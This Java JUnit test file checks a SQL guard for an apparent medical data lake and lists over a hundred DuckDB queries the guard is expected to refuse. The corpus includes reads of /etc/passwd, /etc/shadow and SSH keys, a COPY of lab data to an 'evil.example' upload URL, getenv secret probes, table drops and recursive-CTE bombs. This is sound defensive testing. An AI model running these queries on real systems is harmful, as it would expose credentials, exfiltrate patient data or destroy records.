package org.medlake.query.sql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.medlake.core.error.ErrorCode;

class TestSqlGuardRefusals {
  private static final SqlGuard GUARD =
      new SqlGuard(Set.of("lab_results"), SqlGuard.defaultFunctions());

  private static final String NOT_A_SELECT =
      "Only a single SELECT is allowed (found a statement that is not a SELECT)";

  static Stream<Arguments> escapeAttempts() {
    return Stream.of(
        // file and URL readers
        arguments(
            "SELECT * FROM read_csv('/etc/passwd')", "Table functions are not allowed: read_csv"),
        arguments(
            "SELECT * FROM read_csv_auto('/etc/passwd')",
            "Table functions are not allowed: read_csv_auto"),
        arguments(
            "SELECT * FROM read_parquet('s3://bucket/lab_results/*.parquet')",
            "Table functions are not allowed: read_parquet"),
        arguments(
            "SELECT * FROM read_text('/etc/shadow')", "Table functions are not allowed: read_text"),
        arguments(
            "SELECT * FROM read_blob('/root/.ssh/id_rsa')",
            "Table functions are not allowed: read_blob"),
        arguments(
            "SELECT * FROM read_json('https://evil.example/x.json')",
            "Table functions are not allowed: read_json"),
        arguments(
            "SELECT * FROM 'file.csv'",
            "Table 'file.csv' is not in the catalogue (allowed: lab_results)"),
        arguments(
            "SELECT * FROM '/etc/passwd.csv'", "Table '/etc/passwd.csv' is not in the catalogue"),
        arguments(
            "SELECT * FROM 'https://evil.example/data.parquet'",
            "Table 'https://evil.example/data.parquet' is not in the catalogue"),
        arguments("SELECT * FROM glob('/home/*')", "Table functions are not allowed: glob"),
        arguments(
            "SELECT * FROM sniff_csv('/etc/passwd')", "Table functions are not allowed: sniff_csv"),
        arguments(
            "SELECT * FROM parquet_metadata('warehouse/x.parquet')",
            "Table functions are not allowed: parquet_metadata"),
        arguments(
            "SELECT * FROM iceberg_scan('warehouse/lab_results')",
            "Table functions are not allowed: iceberg_scan"),
        arguments(
            "SELECT * FROM sqlite_scan('vault.db', 'id_links')",
            "Table functions are not allowed: sqlite_scan"),
        arguments("FROM read_csv('/etc/passwd')", "Table functions are not allowed: read_csv"),
        arguments("SELECT read_csv('/etc/passwd')", "Function 'read_csv' is not allowed"),
        arguments(
            "SELECT * FROM lab_results UNION ALL SELECT * FROM read_parquet('x.parquet')",
            "Table functions are not allowed: read_parquet"),
        arguments(
            "SELECT * FROM lab_results WHERE hospital_id IN (SELECT column0 FROM read_csv('ids.csv'))",
            "Table functions are not allowed: read_csv"),
        arguments(
            "SELECT * FROM lab_results, LATERAL read_csv('/etc/passwd')",
            "Table functions are not allowed: read_csv"),
        // statements other than a query
        arguments("COPY lab_results TO '/tmp/out.csv'", NOT_A_SELECT),
        arguments("COPY lab_results FROM '/tmp/in.csv'", NOT_A_SELECT),
        arguments(
            "COPY (SELECT * FROM lab_results) TO 'https://evil.example/upload.parquet'",
            NOT_A_SELECT),
        arguments("ATTACH '/tmp/other.db' AS other", NOT_A_SELECT),
        arguments("DETACH other", NOT_A_SELECT),
        arguments("INSTALL httpfs", NOT_A_SELECT),
        arguments("LOAD httpfs", NOT_A_SELECT),
        arguments("PRAGMA database_list", NOT_A_SELECT),
        arguments("SET enable_external_access = true", NOT_A_SELECT),
        arguments("RESET enable_external_access", NOT_A_SELECT),
        arguments("CALL duckdb_settings()", NOT_A_SELECT),
        arguments("CREATE TABLE copy AS SELECT * FROM lab_results", NOT_A_SELECT),
        arguments("CREATE VIEW v AS SELECT 1", NOT_A_SELECT),
        arguments("CREATE MACRO leak(x) AS getenv(x)", NOT_A_SELECT),
        arguments("CREATE SECRET s3 (TYPE s3, KEY_ID 'k', SECRET 's')", NOT_A_SELECT),
        arguments("DROP TABLE lab_results", NOT_A_SELECT),
        arguments("INSERT INTO lab_results SELECT * FROM lab_results", NOT_A_SELECT),
        arguments("UPDATE lab_results SET hospital_id = 'H999'", NOT_A_SELECT),
        arguments("DELETE FROM lab_results", NOT_A_SELECT),
        arguments("ALTER TABLE lab_results RENAME TO gone", NOT_A_SELECT),
        arguments("EXPORT DATABASE '/tmp/dump'", NOT_A_SELECT),
        arguments("EXPLAIN SELECT * FROM lab_results", NOT_A_SELECT),
        arguments("EXPLAIN ANALYZE SELECT * FROM lab_results", NOT_A_SELECT),
        arguments("USE other", NOT_A_SELECT),
        arguments("VACUUM", NOT_A_SELECT),
        arguments("CHECKPOINT", NOT_A_SELECT),
        arguments("BEGIN TRANSACTION", NOT_A_SELECT),
        arguments("PIVOT lab_results ON hospital_id USING count(*)", NOT_A_SELECT),
        arguments("SELECT * INTO stolen FROM lab_results", "SELECT ... INTO is not allowed"),
        arguments("DESCRIBE lab_results", "DESCRIBE, SHOW and SUMMARIZE are not allowed"),
        arguments("SUMMARIZE lab_results", "DESCRIBE, SHOW and SUMMARIZE are not allowed"),
        arguments("SHOW TABLES", "DESCRIBE, SHOW and SUMMARIZE are not allowed"),
        // several statements, comments
        arguments("SELECT 1; DROP TABLE lab_results", NOT_A_SELECT),
        arguments("SELECT 1; SELECT 2", "Only a single SELECT is allowed (found 2 statements)"),
        arguments(
            "SELECT * FROM lab_results; SELECT * FROM id_links",
            "Only a single SELECT is allowed (found 2 statements)"),
        arguments("SELECT 1 /* harmless */; DROP TABLE lab_results", NOT_A_SELECT),
        arguments(
            "SELECT * FROM /* lab_results */ id_links", "Table 'id_links' is not in the catalogue"),
        arguments(
            "SELECT * FROM lab_results -- comment\n, ingest_runs",
            "Table 'ingest_runs' is not in the catalogue"),
        // quoting
        arguments(
            "SELECT * FROM \"read_csv\"('/etc/passwd')",
            "Table functions are not allowed: read_csv"),
        arguments("SELECT \"getenv\"('HOME')", "Function 'getenv' is not allowed"),
        arguments(
            "SELECT * FROM 'lab_results.csv'", "Table 'lab_results.csv' is not in the catalogue"),
        arguments("SELECT * FROM \"Links\"", "Table 'Links' is not in the catalogue"),
        // catalogue and settings functions
        arguments(
            "SELECT * FROM duckdb_settings()", "Table functions are not allowed: duckdb_settings"),
        arguments(
            "SELECT * FROM duckdb_tables()", "Table functions are not allowed: duckdb_tables"),
        arguments(
            "SELECT * FROM duckdb_functions()",
            "Table functions are not allowed: duckdb_functions"),
        arguments(
            "SELECT * FROM duckdb_databases()",
            "Table functions are not allowed: duckdb_databases"),
        arguments(
            "SELECT * FROM duckdb_secrets()", "Table functions are not allowed: duckdb_secrets"),
        arguments(
            "SELECT * FROM pragma_table_info('lab_results')",
            "Table functions are not allowed: pragma_table_info"),
        arguments("SELECT * FROM duckdb_tables", "Table 'duckdb_tables' is not in the catalogue"),
        arguments(
            "SELECT * FROM information_schema.tables",
            "Table 'information_schema.tables' is not allowed"),
        // the catalogue's schema admits the catalogue's tables only, and no other schema or catalog
        arguments("SELECT * FROM medlake.id_links", "Table 'id_links' is not in the catalogue"),
        arguments("SELECT * FROM main.lab_results", "Table 'main.lab_results' is not allowed"),
        arguments(
            "SELECT * FROM memory.medlake.lab_results",
            "Table 'memory.medlake.lab_results' is not allowed"),
        arguments(
            "SELECT * FROM pg_catalog.pg_class", "Table 'pg_catalog.pg_class' is not allowed"),
        arguments(
            "SELECT * FROM system.main.duckdb_tables",
            "Table 'system.main.duckdb_tables' is not allowed"),
        arguments(
            "SELECT current_setting('enable_external_access')",
            "Function 'current_setting' is not allowed"),
        arguments("SELECT getenv('HOME')", "Function 'getenv' is not allowed"),
        arguments("SELECT version()", "Function 'version' is not allowed"),
        arguments("SELECT getvariable('secret')", "Function 'getvariable' is not allowed"),
        arguments("SELECT current_user", "Function 'current_user' is not allowed"),
        arguments("SELECT \"current_schema\"", "Function 'current_schema' is not allowed"),
        arguments(
            "SELECT system.main.getenv('HOME')", "Function 'system.main.getenv' is not allowed"),
        arguments("SELECT pg_catalog.abs(1)", "Function 'pg_catalog.abs' is not allowed"),
        // recursive CTEs
        arguments(
            "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
            "Recursive CTEs are not allowed"),
        arguments(
            "WITH RECURSIVE bomb(x) AS (SELECT 1 UNION ALL SELECT b1.x FROM bomb b1, bomb b2) SELECT * FROM lab_results, bomb",
            "Recursive CTEs are not allowed"),
        arguments(
            "SELECT * FROM lab_results WHERE patient_key IN (WITH RECURSIVE r(n) AS (SELECT 1 UNION SELECT n FROM r) SELECT n::VARCHAR FROM r)",
            "Recursive CTEs are not allowed"),
        // tables outside the role's catalogue
        arguments(
            "SELECT * FROM lab_results_rejects",
            "Table 'lab_results_rejects' is not in the catalogue (allowed: lab_results)"),
        arguments("SELECT * FROM id_links", "Table 'id_links' is not in the catalogue"),
        arguments(
            "SELECT * FROM secrets",
            "Table 'secrets' is not in the catalogue (allowed: lab_results)"),
        arguments(
            "SELECT * FROM lab_results JOIN id_links USING (patient_key)",
            "Table 'id_links' is not in the catalogue"),
        arguments(
            "SELECT (SELECT count(*) FROM secrets)", "Table 'secrets' is not in the catalogue"),
        arguments(
            "WITH s AS (SELECT * FROM secrets) SELECT * FROM s",
            "Table 'secrets' is not in the catalogue"),
        arguments(
            "SELECT * FROM (WITH secrets AS (SELECT 1 AS x) SELECT * FROM secrets) t, secrets",
            "Table 'secrets' is not in the catalogue"),
        arguments(
            "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a",
            "Table 'b' is not in the catalogue"),
        // qualified names
        arguments("SELECT * FROM main.lab_results", "Table 'main.lab_results' is not allowed"),
        arguments("SELECT * FROM temp.x", "Table 'temp.x' is not allowed"),
        arguments(
            "SELECT * FROM memory.main.lab_results",
            "Table 'memory.main.lab_results' is not allowed"),
        arguments(
            "SELECT * FROM lab_results AT (VERSION => 1)",
            "Time travel (AT ...) is not allowed on table 'lab_results'"),
        // generators
        arguments("SELECT * FROM range(1e12)", "Table functions are not allowed: range"),
        arguments(
            "SELECT * FROM generate_series(1, 1000000000)",
            "Table functions are not allowed: generate_series"),
        arguments(
            "SELECT * FROM query('SELECT * FROM id_links')",
            "Table functions are not allowed: query"),
        arguments(
            "SELECT * FROM query_table('id_links')",
            "Table functions are not allowed: query_table"),
        arguments("SELECT repeat('x', 1000000000)", "Function 'repeat' is not allowed"),
        // disallowed calls hidden in lambdas, clauses and casts
        arguments(
            "SELECT list_transform(['HOME', 'USER'], x -> getenv(x))",
            "Function 'getenv' is not allowed"),
        arguments(
            "SELECT list_filter([1], x -> current_setting('threads') IS NOT NULL)",
            "Function 'current_setting' is not allowed"),
        arguments(
            "SELECT * FROM lab_results ORDER BY getenv('HOME')",
            "Function 'getenv' is not allowed"),
        arguments(
            "SELECT count(*) FILTER (WHERE getenv('HOME') IS NULL) FROM lab_results",
            "Function 'getenv' is not allowed"),
        arguments(
            "SELECT row_number() OVER (ORDER BY current_setting('threads')) FROM lab_results",
            "Function 'current_setting' is not allowed"),
        arguments("SELECT CAST(getenv('HOME') AS INTEGER)", "Function 'getenv' is not allowed"),
        arguments(
            "SELECT hospital_id FROM lab_results GROUP BY ALL HAVING max(getenv('X')) IS NULL",
            "Function 'getenv' is not allowed"),
        arguments(
            "SELECT COLUMNS(c -> getenv(c) IS NULL) FROM lab_results",
            "Function 'getenv' is not allowed"),
        arguments(
            "SELECT * REPLACE (getenv('HOME') AS hospital_id) FROM lab_results",
            "Function 'getenv' is not allowed"),
        arguments(
            "WITH m AS MATERIALIZED (SELECT * FROM id_links) SELECT * FROM m",
            "Table 'id_links' is not in the catalogue"),
        arguments(
            "SELECT * FROM lab_results PIVOT (count(*) FOR hospital_id IN ('H001'))",
            "Table reference PIVOT is not allowed"),
        arguments(
            "SELECT * FROM histogram(lab_results, test_code)",
            "Table functions are not allowed: histogram"),
        arguments(
            "SELECT age(collected_at) FROM lab_results",
            "Function 'age' with one argument is not allowed"),
        // not a query at all
        arguments("SELEC * FROM lab_results", "Syntax error: syntax error at or near \"SELEC\""),
        arguments(
            "SELECT * FROM lab_results WHERE hospital_id = ?",
            "Expression PARAMETER is not allowed"),
        arguments(";", "Only a single SELECT is allowed (found 0 statements)"),
        arguments("   ", "Query is empty"),
        arguments(
            "SELECT 1" + " ".repeat(SqlGuard.MAX_SQL_LENGTH),
            "Query is too long (100008 characters, at most 100000)"));
  }

  @ParameterizedTest
  @MethodSource("escapeAttempts")
  void refuses(String sql, String messageFragment) {
    assertThatThrownBy(() -> GUARD.check(sql))
        .isInstanceOfSatisfying(
            SqlRefusedException.class,
            refused -> {
              assertThat(refused.errorCode()).isEqualTo(ErrorCode.QUERY_REFUSED);
              assertThat(refused.getMessage()).doesNotContain("\n");
            })
        .hasMessageContaining(messageFragment);
  }

  @Test
  void corpusIsLargeEnough() {
    assertThat(escapeAttempts().count()).isGreaterThanOrEqualTo(50);
  }

  @Test
  void rejectsTableNeedsTheAdminCatalogue() {
    SqlGuard admin =
        new SqlGuard(Set.of("lab_results", "lab_results_rejects"), SqlGuard.defaultFunctions());

    assertThat(admin.check("SELECT count(*) FROM lab_results_rejects").tables())
        .containsExactly("lab_results_rejects");
    assertThatThrownBy(() -> admin.check("SELECT * FROM id_links"))
        .isInstanceOf(SqlRefusedException.class)
        .hasMessage(
            "Table 'id_links' is not in the catalogue (allowed: lab_results, lab_results_rejects)");
  }

  @Test
  void aWithheldTableIsRefusedWithItsReasonWhereverItIsRead() {
    SqlGuard analyst =
        new SqlGuard(
            Set.of("lab_results"),
            Map.of("lab_results_rejects", "is readable by admins only"),
            SqlGuard.defaultFunctions());

    for (String sql :
        List.of(
            "SELECT * FROM lab_results_rejects",
            "SELECT * FROM LAB_RESULTS_REJECTS",
            "SELECT (SELECT count(*) FROM lab_results_rejects)",
            "SELECT * FROM lab_results JOIN lab_results_rejects USING (hospital_id)")) {
      assertThatThrownBy(() -> analyst.check(sql))
          .isInstanceOf(SqlRefusedException.class)
          .hasMessageMatching("Table '(?i:lab_results_rejects)' is readable by admins only");
    }
    assertThatThrownBy(() -> analyst.check("SELECT * FROM id_links"))
        .hasMessage("Table 'id_links' is not in the catalogue (allowed: lab_results)");
  }

  @Test
  void functionsOutsideACustomAllowlistAreRefused() {
    SqlGuard countOnly = new SqlGuard(Set.of("lab_results"), Set.of("count_star"));

    assertThat(countOnly.check("SELECT count(*) FROM lab_results").tables())
        .containsExactly("lab_results");
    assertThatThrownBy(() -> countOnly.check("SELECT avg(value_numeric) FROM lab_results"))
        .isInstanceOf(SqlRefusedException.class)
        .hasMessage("Function 'avg' is not allowed");
  }
}
